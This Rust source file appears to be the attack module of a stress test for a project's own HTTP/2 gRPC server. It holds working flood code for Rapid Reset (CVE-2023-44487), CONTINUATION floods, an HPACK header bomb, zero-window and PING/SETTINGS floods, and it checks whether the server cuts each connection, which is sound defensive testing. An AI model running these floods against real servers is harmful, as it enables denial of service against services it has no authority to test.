//! The attacks. Each goes on until its time is over, with a new connection whenever the hub ends one.

use std::net::SocketAddr;
use std::time::Instant;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, RST_STREAM, Raw, SETTINGS, call, frame, text,
};

const PATH: &str = "/serasi.v1.FacilityService/ListFacilities";
/// Frames that are written at once.
const BATCH: u32 = 64;

/// What an attacker needs.
#[derive(Clone)]
pub(crate) struct Attacker {
    pub(crate) address: SocketAddr,
    /// A good one: the worst attacker is one who may come in.
    pub(crate) token: String,
    pub(crate) until: Instant,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// CVE-2023-44487: calls that are taken back at once.
    RapidReset,
    /// CVE-2024-27316 and its kin: headers without an end.
    Continuation,
    /// The same with nothing in them.
    EmptyContinuation,
    /// DATA frames with nothing in them.
    EmptyData,
    /// A message in frames of one byte.
    SmallData,
    Ping,
    Settings,
    /// A header list that is a thousand times longer unpacked.
    HeaderBomb,
    /// Calls whose answers are never read.
    NoWindow,
    /// Connections that say nothing.
    Silent,
}

impl Attack {
    pub(crate) const ALL: [Self; 10] = [
        Self::RapidReset,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::EmptyData,
        Self::SmallData,
        Self::Ping,
        Self::Settings,
        Self::HeaderBomb,
        Self::NoWindow,
        Self::Silent,
    ];

    /// Whether the hub must end such a connection. The others are answered one by one, or wait, at a bounded price.
    pub(crate) const fn is_cut_off(self) -> bool {
        match self {
            Self::RapidReset
            | Self::Continuation
            | Self::EmptyContinuation
            | Self::EmptyData
            | Self::SmallData => true,
            Self::Ping | Self::Settings | Self::HeaderBomb | Self::NoWindow | Self::Silent => false,
        }
    }

    /// Attacks; how many frames were sent, and how often the hub ended a connection.
    pub(crate) async fn run(self, attacker: &Attacker) -> (u64, u64) {
        let (mut sent, mut cut) = (0, 0);
        let mut held = vec![];
        while Instant::now() < attacker.until {
            let Ok(mut raw) = Raw::connect(attacker.address, self.settings()).await else {
                continue;
            };
            if raw.send(&self.opening(&attacker.token)).await.is_err() {
                cut += 1;
                continue;
            }
            let mut stream = 1;
            while Instant::now() < attacker.until && self != Self::Silent {
                let batch: Vec<u8> = (0..BATCH)
                    .flat_map(|number| self.frames(stream + 2 * number, &attacker.token))
                    .collect();
                if raw.send(&batch).await.is_err() {
                    cut += 1;
                    break;
                }
                stream += 2 * BATCH;
                sent += u64::from(BATCH);
            }
            if self == Self::Silent {
                held.push(raw);
                tokio::task::yield_now().await;
            }
        }
        (sent.max(held.len() as u64), cut)
    }

    const fn settings(self) -> &'static [u8] {
        match self {
            // INITIAL_WINDOW_SIZE = 0
            Self::NoWindow => &[0, 4, 0, 0, 0, 0],
            Self::RapidReset
            | Self::Continuation
            | Self::EmptyContinuation
            | Self::EmptyData
            | Self::SmallData
            | Self::Ping
            | Self::Settings
            | Self::HeaderBomb
            | Self::Silent => &[],
        }
    }

    /// What is sent once, before the flood.
    fn opening(self, token: &str) -> Vec<u8> {
        match self {
            Self::Continuation | Self::EmptyContinuation => frame(HEADERS, 0, 1, &call(PATH, token)),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &call(PATH, token)),
            Self::SmallData => {
                let mut opening = frame(HEADERS, END_HEADERS, 1, &call(PATH, token));
                opening.extend(frame(DATA, 0, 1, &[0, 0, 3, 0, 0]));
                opening
            }
            Self::HeaderBomb => {
                // Remembered by the hub's decoder as entry 62.
                let mut block = call(PATH, token);
                block.push(0x40);
                text(&mut block, "x");
                text(&mut block, &"A".repeat(4_000));
                frame(HEADERS, END_HEADERS, 1, &block)
            }
            Self::RapidReset | Self::Ping | Self::Settings | Self::NoWindow | Self::Silent => vec![],
        }
    }

    /// The next piece of the flood; `stream` is a new one.
    fn frames(self, stream: u32, token: &str) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let mut frames = frame(HEADERS, END_HEADERS, stream, &call(PATH, token));
                frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                frames
            }
            Self::Continuation => {
                let mut block = vec![0];
                text(&mut block, &format!("x-{stream}"));
                text(&mut block, &"A".repeat(100));
                frame(CONTINUATION, 0, 1, &block)
            }
            Self::EmptyContinuation => frame(CONTINUATION, 0, 1, &[]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::SmallData => frame(DATA, 0, 1, &[7]),
            Self::Ping => frame(PING, 0, 0, &[7; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::HeaderBomb => {
                let mut block = call(PATH, token);
                // "Entry 62", eight thousand times.
                block.extend([0xbe; 8_000]);
                frame(HEADERS, END_HEADERS | 1, stream + 2, &block)
            }
            Self::NoWindow => {
                let mut frames = frame(HEADERS, END_HEADERS, stream, &call(PATH, token));
                // An empty request: the first page.
                frames.extend(frame(DATA, 1, stream, &[0; 5]));
                frames
            }
            Self::Silent => vec![],
        }
    }
}
